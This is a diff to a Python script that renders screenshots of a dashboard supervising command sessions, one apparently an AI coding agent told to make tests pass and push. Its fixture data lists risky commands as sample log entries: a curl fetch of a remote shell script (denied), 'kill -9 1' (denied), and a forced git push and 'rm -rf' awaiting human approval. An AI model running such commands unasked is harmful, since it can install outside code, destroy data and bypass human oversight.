@@ -9,7 +9,6 @@ from pathlib import Path
 from typing import Any
 
 from tests.support.browser import Browser
-from tests.support.png import smaller
 from tests.watch.page.conftest import Served
 
 SIZES = {
@@ -17,62 +16,27 @@ SIZES = {
     "page-dark": {"width": 1280, "height": 860, "dark": True},
     "page-narrow": {"width": 360, "height": 780},
 }
+AGENT, BUILD, TESTS = "20261127-101502-4f1a", "20261127-101733-09bc", "20261127-095811-77d0"
+PUSH, REMOVE = "git push --force origin main", "rm -rf 'node_modules/.cache' build"
+COMMAND = ["claude", "-p", "make the tests pass, then push"]
 BOARD: dict[str, Any] = {
     "sessions": [
-        {
-            "id": "20261127-101502-4f1a",
-            "name": "agent",
-            "command": ["claude", "-p", "make the tests pass, then push"],
-            "processes": 11,
-            "denied": 3,
-            "asked": 2,
-            "last": "git push --force origin main asked about",
-        },
-        {
-            "id": "20261127-101733-09bc",
-            "name": "docs",
-            "command": ["npm", "run", "build"],
-            "state": "stopped",
-            "processes": 4,
-            "last": "node scripts/build.js allowed",
-        },
-        {
-            "id": "20261127-095811-77d0",
-            "command": ["pytest", "-x"],
-            "state": "ended",
-            "denied": 1,
-            "ended": "exited, status 1",
-        },
+        {"id": AGENT, "name": "agent", "command": COMMAND, "last": f"{PUSH} asked about"},
+        {"id": BUILD, "command": ["npm", "run", "build"], "state": "stopped"},
+        {"id": TESTS, "command": ["pytest"], "state": "ended", "ended": "exited, status 1"},
     ],
     "waiting": [
-        {
-            "session": "20261127-101502-4f1a",
-            "id": "3f2a",
-            "what": "git push --force origin main",
-            "runs": "/usr/lib/git-core/git",
-            "message": "a forced push is left to people",
-        },
-        {
-            "session": "20261127-101502-4f1a",
-            "id": "8c01",
-            "process": "node",
-            "what": "rm -rf 'node_modules/.cache' build",
-            "runs": "/usr/bin/rm",
-            "message": "what removes folders is looked at",
-            "may_always": False,
-        },
+        {"session_id": AGENT, "id": "3f2a", "what": PUSH, "runs": "/usr/lib/git-core/git"},
+        {"session_id": AGENT, "id": "8c01", "what": REMOVE, "may_always": False},
     ],
 }
 LINES = [
     ["allowed", "bash -c 'make test' run by claude"],
-    ["allowed", "make test"],
     ["audited", "cc -c src/queue.c"],
-    ["allowed", "pytest tests/queue -x"],
     ["denied", "curl http://198.51.100.7/x.sh: no downloads (rule: no-fetch)"],
     ["redirected", "npm install → npm ci (rule: locked-install)"],
-    ["approved", "git commit -m 'Queue: wait for the last one'"],
     ["denied", "kill -9 1: SIGKILL to systemd, which belongs to nobody here"],
-    ["asked", "git push --force origin main"],
+    ["asked", PUSH],
 ]
 SWITCH = {"reason": "it deleted the wrong branch", "by": "me on this-machine"}
 
@@ -90,10 +54,10 @@ def main(folder: Path) -> None:
 def take(
     browser: Browser, home: Path, file: Path, size: dict[str, Any], board: dict[str, Any]
 ) -> None:
-    served = Served(home / "store", "", dict(os.environ))
+    served = Served(home / "store", dict(os.environ))
     try:
         served.tell(**board)
-        served.tell(lines=[BOARD["sessions"][0]["id"], LINES * 4])
+        served.tell(lines=[BOARD["sessions"][0]["id"], LINES * 6])
         tab = browser.tab(**size)
         tab.tell("Page.navigate", url=f"http://{served.host}{served.entry}")
         tab.until("document.querySelectorAll('.row').length > 9")
@@ -101,7 +65,6 @@ def take(
             tab.until("!document.querySelector('.question:last-child .yes').disabled")
             tab.press("j")
         tab.screenshot(file)
-        file.write_bytes(smaller(file.read_bytes()))
     finally:
         served.close()
 
